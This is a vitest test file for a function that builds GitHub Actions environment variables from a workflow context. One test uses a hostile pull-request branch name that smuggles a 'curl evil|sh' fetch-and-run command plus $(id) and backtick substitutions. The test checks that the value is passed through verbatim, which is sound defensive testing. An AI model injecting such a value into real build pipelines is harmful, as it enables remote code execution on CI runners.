import { describe, expect, it } from "vitest";
import { buildGithubContext } from "./build-github-context.ts";
import { defaultEventPayload } from "./default-event-payload.ts";
import { makeGitInfo } from "./git-info-fixture.ts";
import { githubEnvVars } from "./github-env-vars.ts";
import { mergeEventPayload } from "./merge-event-payload.ts";

const git = makeGitInfo();
const extras = {
  eventPath: "/tmp/actvm/event.json",
  temp: "/tmp/actvm/temp",
  toolCache: "/opt/hostedtoolcache",
};

function context(eventName: string, payload = defaultEventPayload(eventName, git)) {
  return buildGithubContext({
    eventName,
    payload,
    git,
    workspace: "/work/app",
    runId: 5,
    runNumber: 3,
    runAttempt: 2,
    job: "test",
    workflow: "CI",
    workflowFile: ".github/workflows/ci.yml",
  });
}

describe("githubEnvVars", () => {
  it("sets GitHub's default variables from the context and the runner's paths", () => {
    const env = githubEnvVars(context("push"), extras);
    expect(env).toMatchObject({
      CI: "true",
      GITHUB_ACTIONS: "true",
      GITHUB_SHA: git.sha,
      GITHUB_REF: "refs/heads/feature/login",
      GITHUB_REF_NAME: "feature/login",
      GITHUB_REF_TYPE: "branch",
      GITHUB_REPOSITORY: "octo/app",
      GITHUB_REPOSITORY_OWNER: "octo",
      GITHUB_RUN_ID: "5",
      GITHUB_RUN_NUMBER: "3",
      GITHUB_RUN_ATTEMPT: "2",
      GITHUB_ACTOR: "ada",
      GITHUB_TRIGGERING_ACTOR: "ada",
      GITHUB_WORKFLOW: "CI",
      GITHUB_WORKFLOW_REF: "octo/app/.github/workflows/ci.yml@refs/heads/feature/login",
      GITHUB_EVENT_NAME: "push",
      GITHUB_EVENT_PATH: "/tmp/actvm/event.json",
      GITHUB_WORKSPACE: "/work/app",
      GITHUB_SERVER_URL: "https://github.com",
      GITHUB_API_URL: "https://api.github.com",
      GITHUB_GRAPHQL_URL: "https://api.github.com/graphql",
      GITHUB_JOB: "test",
      GITHUB_HEAD_REF: "",
      GITHUB_BASE_REF: "",
      GITHUB_ACTION: "",
      GITHUB_REF_PROTECTED: "false",
      RUNNER_OS: "Linux",
      RUNNER_NAME: "actvm",
      RUNNER_TEMP: "/tmp/actvm/temp",
      RUNNER_TOOL_CACHE: "/opt/hostedtoolcache",
    });
    expect(env.RUNNER_ARCH).toMatch(/^(X64|ARM64|ARM|X86|[A-Z0-9]+)$/);
    expect(env).not.toHaveProperty("RUNNER_DEBUG");
    expect(Object.values(env).every((v) => typeof v === "string")).toBe(true);
  });

  it("sets RUNNER_DEBUG only in debug mode and honours overrides", () => {
    const env = githubEnvVars(context("push"), {
      ...extras,
      debug: true,
      workspace: "/w",
      runnerArch: "ARM64",
      runnerName: "vm-1",
    });
    expect(env.RUNNER_DEBUG).toBe("1");
    expect(env.GITHUB_WORKSPACE).toBe("/w");
    expect(env.RUNNER_ARCH).toBe("ARM64");
    expect(env.RUNNER_NAME).toBe("vm-1");
  });

  it("passes a hostile PR branch name through verbatim as a value", () => {
    const evil = 'x"; curl evil|sh; echo "$(id)`whoami`';
    const payload = mergeEventPayload(defaultEventPayload("pull_request", git), {
      pull_request: { head: { ref: evil } },
    });
    const env = githubEnvVars(context("pull_request", payload), extras);
    expect(env.GITHUB_HEAD_REF).toBe(evil);
    expect(env.GITHUB_BASE_REF).toBe("main");
    expect(env.GITHUB_REF).toBe("refs/pull/1/merge");
  });
});
